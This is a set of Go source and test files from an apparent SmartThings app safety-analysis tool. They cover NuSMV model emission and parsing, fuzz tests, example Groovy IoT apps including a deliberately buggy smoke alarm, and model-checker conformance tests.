	}
	trans, err := parseDisjunction(transText.String())
	if err != nil {
		return nil, err
	}
	m.Trans = trans
	// Optional SPEC lines after a blank separator.
	for {
		l, ok = p.next()
		if !ok {
			break
		}
		t := strings.TrimSpace(l)
		if t == "" {
			continue
		}
		if !strings.HasPrefix(t, "SPEC ") {
			return nil, fmt.Errorf("smv: unexpected line %q", l)
		}
		m.Specs = append(m.Specs, strings.TrimPrefix(t, "SPEC "))
	}
	// Semantic checks: every non-stutter assignment names a declared
	// variable and a value in its domain.
	if err := m.validate(); err != nil {
		return nil, err
	}
	return m, nil
}

// validate cross-checks assignments against the declared domains. A
// stutter assignment "next(x) = x" (emitted for empty models) is the
// one form whose right-hand side is a variable rather than a value.
func (m *Module) validate() error {
	check := func(a Assign) error {
		v, ok := m.VarByName(a.Var)
		if !ok {
			return fmt.Errorf("smv: assignment to undeclared variable %s", a.Var)
		}
		if a.Next && a.Value == a.Var {
			return nil // stutter
		}
		for _, val := range v.Values {
			if val == a.Value {
				return nil
			}
		}
		return fmt.Errorf("smv: value %s outside the domain of %s", a.Value, a.Var)
	}
	for _, a := range m.Init {
		if err := check(a); err != nil {
			return err
		}
	}
	for _, conj := range m.Trans {
		for _, a := range conj {
			if err := check(a); err != nil {
				return err
			}
		}
	}
	return nil
}

func parseVarDecl(l string) (VarDecl, error) {
	t := strings.TrimSpace(l)
	if !strings.HasSuffix(t, ";") {
		return VarDecl{}, fmt.Errorf("smv: variable declaration %q missing ';'", l)
	}
	t = strings.TrimSuffix(t, ";")
	name, domain, ok := strings.Cut(t, ":")
	if !ok {
		return VarDecl{}, fmt.Errorf("smv: variable declaration %q missing ':'", l)
	}
	name = strings.TrimSpace(name)
	domain = strings.TrimSpace(domain)
	if name == "" || !isSymbol(name) {
		return VarDecl{}, fmt.Errorf("smv: bad variable name in %q", l)
	}
	if !strings.HasPrefix(domain, "{") || !strings.HasSuffix(domain, "}") {
		return VarDecl{}, fmt.Errorf("smv: domain of %s is not an enumeration", name)
	}
	inner := strings.TrimSuffix(strings.TrimPrefix(domain, "{"), "}")
	var vals []string
	for _, v := range strings.Split(inner, ",") {
		v = strings.TrimSpace(v)
		if v == "" || !isSymbol(v) {
			return VarDecl{}, fmt.Errorf("smv: bad domain value %q for %s", v, name)
		}
		vals = append(vals, v)
	}
	if len(vals) == 0 {
		return VarDecl{}, fmt.Errorf("smv: empty domain for %s", name)
	}
	return VarDecl{Name: name, Values: vals}, nil
}

// parseDisjunction splits a TRANS body into parenthesized conjunct
// groups separated by '|'. The scan counts parenthesis depth so the
// parentheses of next(...) do not end a group.
func parseDisjunction(text string) ([][]Assign, error) {
	var out [][]Assign
	i, n := 0, len(text)
	skipWS := func() {
		for i < n && (text[i] == ' ' || text[i] == '\t' || text[i] == '\n') {
			i++
		}
	}
	for {
		skipWS()
		if i >= n {
			break
		}
		if text[i] != '(' {
			return nil, fmt.Errorf("smv: TRANS disjunct must be parenthesized at %q", text[i:])
		}
		depth, start := 0, i
		for ; i < n; i++ {
			switch text[i] {
			case '(':
				depth++
			case ')':
				depth--
			}
			if depth == 0 {
				break
			}
		}
		if depth != 0 {
			return nil, fmt.Errorf("smv: unbalanced parentheses in TRANS")
		}
		group := text[start+1 : i]
		i++ // closing ')'
		conj, err := parseConjuncts(group)
		if err != nil {
			return nil, fmt.Errorf("smv: TRANS: %w", err)
		}
		out = append(out, conj)
		skipWS()
		if i >= n {
			break
		}
		if text[i] != '|' {
			return nil, fmt.Errorf("smv: expected '|' between TRANS disjuncts at %q", text[i:])
		}
		i++
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("smv: empty TRANS section")
	}
	return out, nil
}

// parseConjuncts parses "a = b & next(c) = d & ...".
func parseConjuncts(text string) ([]Assign, error) {
	var out []Assign
	for _, part := range strings.Split(text, "&") {
		part = strings.TrimSpace(part)
		if part == "" {
			return nil, fmt.Errorf("empty conjunct in %q", text)
		}
		lhs, rhs, ok := strings.Cut(part, "=")
		if !ok {
			return nil, fmt.Errorf("conjunct %q is not an equality", part)
		}
		lhs, rhs = strings.TrimSpace(lhs), strings.TrimSpace(rhs)
		a := Assign{Var: lhs, Value: rhs}
		if strings.HasPrefix(lhs, "next(") && strings.HasSuffix(lhs, ")") {
			a.Next = true
			a.Var = strings.TrimSuffix(strings.TrimPrefix(lhs, "next("), ")")
		}
		if a.Var == "" || !isSymbol(a.Var) || a.Value == "" || !isSymbol(a.Value) {
			return nil, fmt.Errorf("bad assignment %q", part)
		}
		out = append(out, a)
	}
	return out, nil
}

// isSymbol reports whether s is a sanitized SMV identifier (the
// alphabet symbol() emits).
func isSymbol(s string) bool {
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_' {
			continue
		}
		return false
	}
	return s != ""
}

// Emit renders the parsed module back to text. For any module
// produced by Parse on emitter output, the result is byte-identical
// to the original — the idempotence half of the round-trip oracle.
func (m *Module) Emit() string {
	var sb strings.Builder
	sb.WriteString("MODULE main\n")
	sb.WriteString("VAR\n")
	for _, v := range m.Vars {
		fmt.Fprintf(&sb, "  %s : {%s};\n", v.Name, strings.Join(v.Values, ", "))
	}
	sb.WriteString("\nINIT\n  ")
	sb.WriteString(renderConjuncts(m.Init))
	sb.WriteString("\n")
	sb.WriteString("\nTRANS\n")
	var disj []string
	for _, conj := range m.Trans {
		disj = append(disj, "  ("+renderConjuncts(conj)+")")
	}
	sb.WriteString(strings.Join(disj, " |\n"))
	sb.WriteString("\n")
	if len(m.Specs) > 0 {
		sb.WriteString("\n")
		for _, s := range m.Specs {
			fmt.Fprintf(&sb, "SPEC %s\n", s)
		}
	}
	return sb.String()
}

func renderConjuncts(as []Assign) string {
	parts := make([]string, len(as))
	for i, a := range as {
		lhs := a.Var
		if a.Next {
			lhs = "next(" + a.Var + ")"
		}
		parts[i] = lhs + " = " + a.Value
	}
	return strings.Join(parts, " & ")
}

// SortedEventValues returns the _event domain sorted — a convenience
// for conformance checks comparing parsed modules against models.
func (m *Module) SortedEventValues() []string {
	v, ok := m.VarByName("_event")
	if !ok {
		return nil
	}
	out := append([]string(nil), v.Values...)
	sort.Strings(out)
	return out
}
