package smv_test

import (
	"strings"
	"testing"

	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/paperapps"
	"github.com/soteria-analysis/soteria/internal/smv"
	"github.com/soteria-analysis/soteria/internal/statemodel"
)

// smokeAlarmEmission emits the Smoke-Alarm model with one SPEC — a
// real emitter output for round-trip tests.
func smokeAlarmEmission(t *testing.T) string {
	t.Helper()
	app, err := ir.BuildSource("Smoke-Alarm", paperapps.SmokeAlarm)
	if err != nil {
		t.Fatal(err)
	}
	m, err := statemodel.Build(app)
	if err != nil {
		t.Fatal(err)
	}
	return smv.Emit(m, []ctl.Formula{ctl.MustParse(`AG "alarm.alarm=siren"`)})
}

func TestParseEmitRoundTrip(t *testing.T) {
	out := smokeAlarmEmission(t)
	mod, err := smv.Parse(out)
	if err != nil {
		t.Fatalf("emitter output does not parse: %v\n%s", err, out)
	}
	if re := mod.Emit(); re != out {
		t.Fatalf("re-emission not byte-identical:\n--- original ---\n%s\n--- re-emitted ---\n%s", out, re)
	}
	if _, ok := mod.VarByName("_event"); !ok {
		t.Error("parsed module lacks the _event variable")
	}
	if len(mod.Specs) != 1 {
		t.Errorf("parsed module has %d SPEC lines, want 1", len(mod.Specs))
	}
	evs := mod.SortedEventValues()
	if len(evs) == 0 {
		t.Fatal("no event values")
	}
	for i := 1; i < len(evs); i++ {
		if evs[i-1] > evs[i] {
			t.Fatalf("SortedEventValues not sorted: %v", evs)
		}
	}
}

func TestParseStutterModule(t *testing.T) {
	src := strings.Join([]string{
		"MODULE main",
		"VAR",
		"  a : {v0};",
		"",
		"INIT",
		"  a = v0",
		"",
		"TRANS",
		"  (next(a) = a)",
		"",
	}, "\n")
	mod, err := smv.Parse(src)
	if err != nil {
		t.Fatalf("stutter module rejected: %v", err)
	}
	if len(mod.Trans) != 1 || !mod.Trans[0][0].Next || mod.Trans[0][0].Value != "a" {
		t.Errorf("stutter transition misparsed: %+v", mod.Trans)
	}
	if re := mod.Emit(); re != src {
		t.Errorf("stutter module re-emission differs:\n%q\nvs\n%q", re, src)
	}
}

func TestParseRejects(t *testing.T) {
	valid := func(trans string) string {
		return strings.Join([]string{
			"MODULE main",
			"VAR",
			"  a : {v0, v1};",
			"",
			"INIT",
			"  a = v0",
			"",
			"TRANS",
			trans,
			"",
		}, "\n")
	}
	cases := map[string]string{
		"empty input":        "",
		"wrong module":       "MODULE other\nVAR\n",
		"no VAR":             "MODULE main\nINIT\n",
		"bad decl":           "MODULE main\nVAR\n  a = {v0};\n",
		"non-enum domain":    "MODULE main\nVAR\n  a : v0;\n",
		"dup var":            "MODULE main\nVAR\n  a : {v0};\n  a : {v1};\n\nINIT\n  a = v0\n\nTRANS\n  (next(a) = a)\n",
		"init out of domain": strings.Replace(valid("  (a = v0 & next(a) = v1)"), "a = v0\n", "a = v9\n", 1),
		"undeclared var":     valid("  (b = v0)"),
		"bare disjunct":      valid("  a = v0 & next(a) = v1"),
		"missing pipe":       valid("  (a = v0) (a = v1)"),
		"unbalanced parens":  valid("  (a = v0"),
		"empty trans":        valid("  "),
		"trailing garbage":   valid("  (a = v0 & next(a) = v1)") + "\nFOO\n",
		"non-equality":       valid("  (a < v0)"),
	}
	for name, src := range cases {
		if _, err := smv.Parse(src); err == nil {
			t.Errorf("%s: accepted:\n%s", name, src)
		}
	}
}
