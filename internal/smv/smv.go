// Package smv emits the NuSMV input format for a Soteria state model
// (paper Fig. 9 shows "SMV format of State-Model" as one of the
// analyzer's outputs). The emitted module is valid NuSMV 2.6 input:
// one enumerated variable per device attribute, a TRANS disjunction
// derived from the model's labeled transitions, DEFINEs for event
// markers, and SPEC lines for the properties under check.
package smv

import (
	"fmt"
	"sort"
	"strings"

	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/statemodel"
)

// Emit renders the model as an SMV module, with the given CTL
// properties appended as SPEC lines.
func Emit(m *statemodel.Model, specs []ctl.Formula) string {
	var sb strings.Builder
	sb.WriteString("MODULE main\n")
	sb.WriteString("VAR\n")
	for _, v := range m.Vars {
		vals := make([]string, len(v.Values))
		for i, x := range v.Values {
			vals[i] = symbol(v.Key + "_" + x)
		}
		fmt.Fprintf(&sb, "  %s : {%s};\n", symbol(v.Key), strings.Join(vals, ", "))
	}
	// The event marker variable records which event fired last.
	events := map[string]bool{"none": true}
	for _, t := range m.Transitions {
		events[symbol("ev_"+t.Event.String())] = true
	}
	evList := sortedSet(events)
	fmt.Fprintf(&sb, "  _event : {%s};\n", strings.Join(evList, ", "))

	sb.WriteString("\nINIT\n  _event = none\n")

	sb.WriteString("\nTRANS\n")
	var disj []string
	for _, t := range m.Transitions {
		var conj []string
		for vi, v := range m.Vars {
			from := symbol(v.Key + "_" + v.Values[m.States[t.From].Idx[vi]])
			to := symbol(v.Key + "_" + v.Values[m.States[t.To].Idx[vi]])
			conj = append(conj, fmt.Sprintf("%s = %s", symbol(v.Key), from))
			conj = append(conj, fmt.Sprintf("next(%s) = %s", symbol(v.Key), to))
		}
		conj = append(conj, fmt.Sprintf("next(_event) = %s", symbol("ev_"+t.Event.String())))
		if !t.Guard.IsTrue() {
			conj = append(conj, "-- guard: "+strings.ReplaceAll(t.Guard.String(), "\n", " "))
		}
		disj = append(disj, "  ("+strings.Join(withoutComments(conj), " & ")+")")
	}
	if len(disj) == 0 {
		// No behaviour: stutter.
		var conj []string
		for _, v := range m.Vars {
			conj = append(conj, fmt.Sprintf("next(%s) = %s", symbol(v.Key), symbol(v.Key)))
		}
		conj = append(conj, "next(_event) = _event")
		disj = append(disj, "  ("+strings.Join(conj, " & ")+")")
	}
	sb.WriteString(strings.Join(disj, " |\n"))
	sb.WriteString("\n")

	if len(specs) > 0 {
		sb.WriteString("\n")
		for _, f := range specs {
			fmt.Fprintf(&sb, "SPEC %s\n", formula(f))
		}
	}
	return sb.String()
}

// withoutComments drops the pseudo-conjuncts that are comments.
func withoutComments(conj []string) []string {
	var out []string
	for _, c := range conj {
		if !strings.HasPrefix(c, "--") {
			out = append(out, c)
		}
	}
	return out
}

// symbol sanitises a name into an SMV identifier.
func symbol(s string) string {
	var sb strings.Builder
	for _, r := range s {
		switch {
		case r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || r == '_':
			sb.WriteRune(r)
		case r == '.' || r == ' ' || r == '-' || r == ':':
			sb.WriteByte('_')
		case r == '=':
			sb.WriteString("_eq_")
		case r == '<':
			sb.WriteString("_lt_")
		case r == '>':
			sb.WriteString("_gt_")
		case r == '&':
			sb.WriteString("_and_")
		case r == '!':
			sb.WriteString("_not_")
		}
	}
	out := sb.String()
	if out == "" || out[0] >= '0' && out[0] <= '9' {
		out = "v_" + out
	}
	return out
}

// formula renders a CTL formula in SMV syntax, mapping atomic
// propositions of the form "var=value" to SMV equality tests and
// "ev:<event>" markers to the _event variable.
func formula(f ctl.Formula) string {
	switch x := f.(type) {
	case ctl.Prop:
		if strings.HasPrefix(x.Name, "ev:") {
			return fmt.Sprintf("_event = %s", symbol("ev_"+strings.TrimPrefix(x.Name, "ev:")))
		}
		if i := strings.LastIndex(x.Name, "="); i > 0 {
			key, val := x.Name[:i], x.Name[i+1:]
			return fmt.Sprintf("%s = %s", symbol(key), symbol(key+"_"+val))
		}
		return symbol(x.Name)
	case ctl.TrueF:
		return "TRUE"
	case ctl.FalseF:
		return "FALSE"
	case ctl.Not:
		return "!(" + formula(x.X) + ")"
	case ctl.And:
		return "(" + formula(x.L) + " & " + formula(x.R) + ")"
	case ctl.Or:
		return "(" + formula(x.L) + " | " + formula(x.R) + ")"
	case ctl.Implies:
		return "(" + formula(x.L) + " -> " + formula(x.R) + ")"
	case ctl.EX:
		return "EX (" + formula(x.X) + ")"
	case ctl.AX:
		return "AX (" + formula(x.X) + ")"
	case ctl.EF:
		return "EF (" + formula(x.X) + ")"
	case ctl.AF:
		return "AF (" + formula(x.X) + ")"
	case ctl.EG:
		return "EG (" + formula(x.X) + ")"
	case ctl.AG:
		return "AG (" + formula(x.X) + ")"
	case ctl.EU:
		return "E [" + formula(x.A) + " U " + formula(x.B) + "]"
	case ctl.AU:
		return "A [" + formula(x.A) + " U " + formula(x.B) + "]"
	}
	return "TRUE"
}

func sortedSet(set map[string]bool) []string {
	out := make([]string, 0, len(set))
	for s := range set {
		out = append(out, s)
	}
	sort.Strings(out)
	return out
}
