package smv_test

import (
	"math/rand"
	"strings"
	"testing"

	"github.com/soteria-analysis/soteria/internal/conformance"
	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/paperapps"
	"github.com/soteria-analysis/soteria/internal/smv"
	"github.com/soteria-analysis/soteria/internal/statemodel"
)

// FuzzParse drives the SMV module parser with arbitrary input. The
// invariants are totality (no panic) and emission idempotence: any
// accepted module must re-emit, re-parse, and re-emit byte-identically.
func FuzzParse(f *testing.F) {
	// Real emitter outputs: every paper app, plus seeded random models
	// from the conformance generator.
	for _, app := range paperapps.Corpus() {
		a, err := ir.BuildSource(app.Name, app.Source)
		if err != nil {
			continue
		}
		m, err := statemodel.Build(a)
		if err != nil {
			continue
		}
		f.Add(smv.Emit(m, nil))
		f.Add(smv.Emit(m, []ctl.Formula{ctl.MustParse(`AG "alarm.alarm=siren"`)}))
	}
	rng := rand.New(rand.NewSource(1))
	for i := 0; i < 8; i++ {
		sp := conformance.GenModelSpec(rng, conformance.DefaultGenConfig())
		m, _, err := sp.Build()
		if err != nil {
			continue
		}
		f.Add(smv.Emit(m, nil))
	}
	// Malformed shapes.
	f.Add("")
	f.Add("MODULE main")
	f.Add("MODULE main\nVAR\n  a : {v0};\n\nINIT\n  a = v0\n\nTRANS\n  (a = v0\n")
	f.Add(strings.Repeat("(", 4096))
	f.Add("MODULE main\nVAR\n" + strings.Repeat("  a : {v0};\n", 50))

	f.Fuzz(func(t *testing.T, src string) {
		mod, err := smv.Parse(src)
		if err != nil {
			return
		}
		out := mod.Emit()
		mod2, err := smv.Parse(out)
		if err != nil {
			t.Fatalf("emission of accepted module does not re-parse: %v\n%s", err, out)
		}
		if out2 := mod2.Emit(); out2 != out {
			t.Fatalf("emission not idempotent:\n--- first ---\n%s\n--- second ---\n%s", out, out2)
		}
	})
}
