package smv

import (
	"strings"
	"testing"

	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/paperapps"
	"github.com/soteria-analysis/soteria/internal/statemodel"
)

func modelOf(t *testing.T, name, src string) *statemodel.Model {
	t.Helper()
	app, err := ir.BuildSource(name, src)
	if err != nil {
		t.Fatal(err)
	}
	m, err := statemodel.Build(app)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestEmitWaterLeak(t *testing.T) {
	m := modelOf(t, "water-leak", paperapps.WaterLeakDetector)
	out := Emit(m, []ctl.Formula{
		ctl.MustParse(`AG ("ev:waterSensor.water.wet" -> "valve.valve=closed")`),
	})
	for _, want := range []string{
		"MODULE main",
		"VAR",
		"valve_valve : {valve_valve_closed, valve_valve_open}",
		"waterSensor_water : {waterSensor_water_dry, waterSensor_water_wet}",
		"_event :",
		"TRANS",
		"next(valve_valve) = valve_valve_closed",
		"SPEC AG ((_event = ev_waterSensor_water_wet -> valve_valve = valve_valve_closed))",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("SMV output missing %q:\n%s", want, out)
		}
	}
}

func TestSymbolSanitisation(t *testing.T) {
	cases := map[string]string{
		"valve.valve":        "valve_valve",
		"battery<thrshld":    "battery_lt_thrshld",
		"==68":               "_eq__eq_68",
		"a b":                "a_b",
		"power>50&power<100": "power_gt_50_and_power_lt_100",
	}
	for in, want := range cases {
		if got := symbol(in); got != want {
			t.Errorf("symbol(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestEmitDeterministic(t *testing.T) {
	m := modelOf(t, "smoke-alarm", paperapps.SmokeAlarm)
	a := Emit(m, nil)
	b := Emit(m, nil)
	if a != b {
		t.Error("SMV emission must be deterministic")
	}
}

func TestFormulaRendering(t *testing.T) {
	cases := map[string]string{
		`AG "a=b"`:           `AG (a = a_b)`,
		`EF ("x=1" & "y=2")`: `EF ((x = x_1 & y = y_2))`,
		`A["p=q" U "r=s"]`:   `A [p = p_q U r = r_s]`,
		`!"ev:timer"`:        `!(_event = ev_timer)`,
		`true`:               `TRUE`,
	}
	for src, want := range cases {
		if got := formula(ctl.MustParse(src)); got != want {
			t.Errorf("formula(%s) = %q, want %q", src, got, want)
		}
	}
}

func TestEmptyModelStutters(t *testing.T) {
	m := modelOf(t, "empty", `
preferences { section("s") { input "sw", "capability.switch" } }
def installed() { }
`)
	out := Emit(m, nil)
	if !strings.Contains(out, "next(switch_switch) = switch_switch") {
		t.Errorf("no-transition model should stutter:\n%s", out)
	}
}
