// Package paperapps holds the three running-example SmartThings apps
// from the paper's Appendix A (Smoke-Alarm, Water-Leak-Detector, and
// Thermostat-Energy-Control), verbatim modulo trimmed metadata URLs.
// They are used by tests, examples, and the benchmark harness.
package paperapps

// App pairs an app's name with its Groovy source.
type App struct {
	Name   string
	Source string
}

// Corpus returns the paper's example apps in a stable order — the
// iteration set for the conformance golden-corpus runner and the
// package tests.
func Corpus() []App {
	return []App{
		{Name: "Smoke-Alarm", Source: SmokeAlarm},
		{Name: "Buggy-Smoke-Alarm", Source: BuggySmokeAlarm},
		{Name: "Water-Leak-Detector", Source: WaterLeakDetector},
		{Name: "Thermostat-Energy-Control", Source: ThermostatEnergyControl},
	}
}

// SmokeAlarm is Appendix A.1 (Listing 1): sounds the alarm and opens
// the water valve when smoke is detected, turns both off when smoke is
// clear, and turns on a switch when the detector battery is low.
const SmokeAlarm = `
definition(
    name: "Smoke-Alarm",
    namespace: "soteria",
    author: "Soteria",
    description: "Smoke-Detector App introduced in Section 3.",
    category: "Safety & Security")

preferences {
    section("Select smoke detector: "){
        input "smoke_detector", "capability.smokeDetector", title: "Which detector?", required: true
    }
    section("Select switch for low battery notification: "){
        input "the_switch", "capability.switch", title: "Which switch?", required: true
    }
    section("Select alarm device: ") {
        input "the_alarm", "capability.alarm", title: "Which alarm?", required: true
    }
    section("Select water valve: "){
        input "the_valve", "capability.valve", title: "Which valve?", required: true
    }
    section("Select battery settings: "){
        input "the_battery", "capability.battery", title: "Which battery?", required: true
    }
    section( "Low battery warning: "){
        input "thrshld", "number", title: "Low Battery Threshold", required: true
    }
}

def installed()
{
    initialize()
}

def updated()
{
    unsubscribe()
    initialize()
}

private initialize() {
    subscribe(smoke_detector, "smoke", smokeHandler)
    subscribe(the_battery, "battery", batteryHandler)
}

def smokeHandler(evt) {
    log.trace "$evt.value: $evt, $settings"
    String theMessage
    log.debug "event created at: ${evt.date}"

    if (evt.value == "tested") {
        theMessage = "${evt.displayName} tested for smoke."
    } else if (evt.value == "clear") {
        theMessage = "${evt.displayName} is clear for smoke."
        the_alarm.off()
        the_valve.close()
        log.debug "evt clear"
    } else if (evt.value == "detected") {
        theMessage = "${evt.displayName} detected smoke!"
        the_alarm.siren()
        the_valve.open()
    } else {
        theMessage = ("Unknown event received ${evt.name}")
    }
    log.warn "$theMessage"
}

def batteryHandler(evt) {
    log.trace "$evt.value: $evt, $settings"
    def String theMessage
    def check = thrshld
    def battLevel = findBatteryLevel()

    if (battLevel < check) {
        the_switch.on()
        theMessage = "${evt.displayName} has battery ${battLevel}"
    }
}

def findBatteryLevel(){
    return the_battery.currentValue("battery").integerValue
}
`

// BuggySmokeAlarm is the §3 motivating variant whose actual behaviour
// (Fig. 2(1b)) halts the alarm moments after it sounds: a bug turns
// the alarm off on the same smoke-detected event.
const BuggySmokeAlarm = `
definition(
    name: "Buggy-Smoke-Alarm",
    namespace: "soteria",
    author: "Soteria",
    description: "Smoke alarm with the Fig. 2(1b) bug.",
    category: "Safety & Security")

preferences {
    section("Select smoke detector: "){
        input "smoke_detector", "capability.smokeDetector", required: true
    }
    section("Select alarm device: ") {
        input "the_alarm", "capability.alarm", required: true
    }
}

def installed() {
    subscribe(smoke_detector, "smoke", smokeHandler)
}

def smokeHandler(evt) {
    if (evt.value == "detected") {
        the_alarm.siren()
        the_alarm.off()
    }
    if (evt.value == "clear") {
        the_alarm.off()
    }
}
`

// WaterLeakDetector is Appendix A.2 (Listing 3): closes the main water
// valve when the moisture sensor reports wet.
const WaterLeakDetector = `
definition(
    name: "Water-Leak-Detector",
    namespace: "soteria",
    author: "Soteria",
    description: "Water-Leak-Detector app introduced in Section 3.",
    category: "Safety & Security")

preferences {
    section("When there's water detected...") {
        input "water_sensor", "capability.waterSensor", title: "Where?"
        input "valve_device", "capability.valve", title: "Valve device"
    }
    section("Send a notification to...") {
        input("recipients", "contact", title: "Recipients", description: "Send notifications to") {
            input "phone", "phone", title: "Phone number?", required: false
        }
    }
}

def installed(){
    subscribe(water_sensor, "water.wet", waterWetHandler)
}

def updated(){
    unsubscribe()
    subscribe(water_sensor, "water.wet", waterWetHandler)
}

def waterWetHandler(evt){
    def deltaSeconds = 60

    def timeAgo = new Date(now() - (1000 * deltaSeconds))
    def recentEvents = water_sensor.eventsSince(timeAgo)
    log.debug "Found ${recentEvents?.size() ?: 0} events in the last $deltaSeconds seconds"
    valve_device.close()
    def alreadySentSms = recentEvents.count {it.value && it.value == "wet"} > 1
    if (alreadySentSms){
        log.debug "SMS already sent within the last $deltaSeconds seconds"
    }else{
        def msg = "${water_sensor.displayName} is wet!"
        if (location.contactBookEnabled){
            sendNotificationToContacts(msg, recipients)
        }
        else{
            sendPush(msg)
            if (phone) {
                sendSms(phone, msg)
            }
        }
    }
}
`

// ThermostatEnergyControl is Appendix A.3 (Listing 5): locks the door
// and sets the thermostat on mode changes; switches the heater outlet
// off above an energy threshold and on below another.
const ThermostatEnergyControl = `
definition(
    name: "Thermostat-Energy-Control",
    namespace: "soteria",
    author: "Soteria",
    description: "Thermostat-Energy-Control app introduced in Section 3.",
    category: "Green Living")

preferences {
    section("Control") {
        input "ther", "capability.thermostat", title: "Thermostat", required:true
    }
    section("Select the door lock:") {
        input "the_lock", "capability.lock", required: true
    }
    section("Select the thermostat energy meter to monitor:") {
        input "power_meter", "capability.powerMeter", title: "Energy Meters", required: true
        input "price_kwh", "number", title: "threshold value for energy usage", required: true
    }
    section("Select the heater outlet switch:"){
        input "the_switch", "capability.switch", title: "Outlets", required: true
    }
}

def installed(){
    initialize()
}

def updated(){
    unsubscribe()
    unschedule()
    initialize()
}

def initialize(){
    subscribe(location, "mode", modeChangeHandler)
    subscribe(power_meter, "power", powerHandler)
}

def modeChangeHandler(evt) {
    def temp = 68
    setTemp(temp)
    the_lock.lock()
}

def setTemp(t){
    ther.setHeatingSetpoint(t)
    def msg = "heating and cooling point set, door is locked!"
    send(msg)
}

def powerHandler(evt){
    def above_thrshld_val = 50
    def below_thrshld_val = 5
    def dUnit = evt.unit ?: "Watts"

    power_val = get_power()

    if (power_val > above_thrshld_val ){
        the_switch.off()
        send("above threshold")
    }
    if (power_val < below_thrshld_val ){
        the_switch.on()
        send("below threshold")
    }
}

def get_power(){
    latest_power = power_meter.currentValue("power")
    return latest_power
}

def send(msg){
    if(location.contactBookEnabled) {
        if (recipients) {
            sendNotificationToContacts(msg, recipients)
        }
    }
    if (phoneNumber) {
        sendSms( phoneNumber, msg)
    }
}
`
