package paperapps

import (
	"testing"

	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/statemodel"
)

func TestCorpusLoads(t *testing.T) {
	apps := Corpus()
	if len(apps) != 4 {
		t.Fatalf("corpus has %d apps, want 4", len(apps))
	}
	want := []string{"Smoke-Alarm", "Buggy-Smoke-Alarm", "Water-Leak-Detector", "Thermostat-Energy-Control"}
	for i, app := range apps {
		if app.Name != want[i] {
			t.Errorf("corpus[%d] = %s, want %s", i, app.Name, want[i])
		}
		if app.Source == "" {
			t.Errorf("%s has empty source", app.Name)
		}
	}
}

func TestEveryAppBuildsNonEmptyModel(t *testing.T) {
	for _, app := range Corpus() {
		a, err := ir.BuildSource(app.Name, app.Source)
		if err != nil {
			t.Errorf("%s does not parse: %v", app.Name, err)
			continue
		}
		m, err := statemodel.Build(a)
		if err != nil {
			t.Errorf("%s: state model extraction failed: %v", app.Name, err)
			continue
		}
		if len(m.States) == 0 {
			t.Errorf("%s: empty state model", app.Name)
		}
		if len(m.Vars) == 0 {
			t.Errorf("%s: state model has no variables", app.Name)
		}
		if len(m.Transitions) == 0 {
			t.Errorf("%s: state model has no transitions", app.Name)
		}
	}
}
