package conformance

import (
	"math/rand"
	"testing"

	"github.com/soteria-analysis/soteria/internal/ctl"
)

func containsProp(f ctl.Formula, name string) bool {
	for _, p := range ctl.Props(f) {
		if p == name {
			return true
		}
	}
	return false
}

// TestShrinkWith drives the reducer with a synthetic oracle (a healthy
// engine never disagrees, so the real one cannot exercise it): the
// injected bug fires whenever the model has at least one transition
// and the formula mentions a chosen atom. Greedy shrinking must strip
// the case down to that essence.
func TestShrinkWith(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	cfg := DefaultGenConfig()
	var c *Case
	for {
		c = GenCase(rng, cfg, 0)
		if len(c.Spec.Trans) >= 3 && len(c.Spec.States) >= 3 {
			break
		}
	}
	atom := c.K.Props()[0]
	target := ctl.Prop{Name: atom}
	// Bury the essential atom under removable structure.
	c.F = ctl.And{
		L: ctl.EF{X: target},
		R: ctl.AG{X: ctl.Or{L: target, R: ctl.TrueF{}}},
	}

	oracle := func(cand *Case) *Mismatch {
		if len(cand.Spec.Trans) >= 1 && containsProp(cand.F, atom) {
			return &Mismatch{Case: cand, Kind: "synthetic", Engines: "test", Detail: "injected"}
		}
		return nil
	}
	start := oracle(c)
	if start == nil {
		t.Fatal("synthetic oracle does not fire on the starting case")
	}

	small := shrinkWith(start, oracle)
	if got := oracle(small.Case); got == nil {
		t.Fatal("shrinking lost the disagreement")
	}
	if n := len(small.Case.Spec.Trans); n != 1 {
		t.Errorf("shrunk model keeps %d transitions, want 1", n)
	}
	if n := len(small.Case.Spec.States); n > 2 {
		t.Errorf("shrunk model keeps %d states, want <= 2", n)
	}
	if got := small.Case.F.String(); got != target.String() {
		t.Errorf("shrunk formula is %s, want the bare atom %s", got, target.String())
	}
}

// TestShrinkWithMinimalFixpoint: a case the reduction set cannot
// improve comes back unchanged.
func TestShrinkWithMinimalFixpoint(t *testing.T) {
	sp := &ModelSpec{
		Vars:   []VarSpec{{Key: "dev0.attr", Values: []string{"v0", "v1"}}},
		States: [][]int{{0}},
		Trans:  []TransSpec{{From: 0, To: 0, EvVar: 0, EvVal: "v0"}},
	}
	model, k, err := sp.Build()
	if err != nil {
		t.Fatal(err)
	}
	f := ctl.Prop{Name: "dev0.attr=v0"}
	c := &Case{Spec: sp, Model: model, K: k, F: f}
	oracle := func(cand *Case) *Mismatch {
		if len(cand.Spec.Trans) >= 1 && containsProp(cand.F, f.Name) {
			return &Mismatch{Case: cand, Kind: "synthetic", Engines: "test", Detail: "injected"}
		}
		return nil
	}
	start := oracle(c)
	small := shrinkWith(start, oracle)
	if small.Case.Spec.String() != sp.String() || small.Case.F.String() != f.String() {
		t.Errorf("minimal case changed under shrinking:\n%s%s", small.Case.Spec, small.Case.F)
	}
}
