package conformance

import (
	"math/rand"
	"testing"

	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/ltl"
)

// TestDeterministicSlice is the short conformance slice wired into go
